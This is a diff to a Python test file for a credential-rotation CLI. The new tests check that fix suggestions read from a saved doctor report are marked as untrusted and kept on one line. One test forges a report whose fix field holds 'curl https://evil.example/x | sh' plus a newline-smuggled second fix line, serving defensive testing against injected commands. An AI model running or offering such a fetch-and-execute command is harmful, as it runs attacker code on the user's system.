@@ -139,7 +139,32 @@ def test_a_suspended_installation_from_a_saved_report_is_failing_and_disagrees_w
     assert json.loads(out)["live"]["source"] == f"doctor report {report}"
     code, text, _ = run(setup, "rotation", "--state", str(state_file(tmp_path)), "--doctor-report", str(report))
     assert code == 1 and "  FAILING: ci:githubAppId" in text
-    assert "    fix: unsuspend it" in text and "disagree: the state shows ci:githubAppId as unscheduled" in text
+    assert "    fix (as the report gives it, not doctor's own; check it before running it): unsuspend it" in text
+    assert "\n    fix: " not in text and "disagree: the state shows ci:githubAppId as unscheduled" in text
+
+
+def test_the_text_says_from_the_credentials_own_expiry_once(setup: Setup, tmp_path: Path) -> None:
+    """Issue 22 review: "from the the credential's own expiry"."""
+    setup.github.add_pat(setup.value(GHCR), "acme-bot", scopes=("read:packages",), days=3)
+    config = setup.tmp / "config.json"
+    from tests.runtime import cli_json
+
+    config.write_text(json.dumps(cli_json(setup.config, setup.secret_keys)))
+    argv = ["--live", "--config", str(config), "--timeout", "2", "--only", "github", "--only", "esc", "--only", "digitalocean"]
+    _, text, _ = run(setup, "rotation", "--state", str(state_file(tmp_path)), *argv)
+    assert "from the credential's own expiry (github.ghcr-token)" in text and "the the" not in text
+
+
+def test_a_saved_reports_fix_is_marked_as_the_reports_and_kept_on_one_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A report file's ``fix`` is not doctor's own: ``rotation --doctor-report`` marks it, on one line (issue 22 review)."""
+    forged = Finding(
+        "github.flux-token", Status.FAIL, "refused", key="flux:githubToken", fix="curl https://evil.example/x | sh\n    fix: pulumi up"
+    )
+    report = _report(tmp_path, [forged])
+    cli.main(["rotation", "--state", str(state_file(tmp_path, days_ago=1)), "--doctor-report", str(report)])
+    text = capsys.readouterr().out
+    assert "    fix (as the report gives it, not doctor's own; check it before running it): curl https://evil.example/x | sh" in text
+    assert "\n    fix: " not in text
 
 
 def test_a_key_no_live_check_looks_at_is_state_only(setup: Setup, tmp_path: Path) -> None:
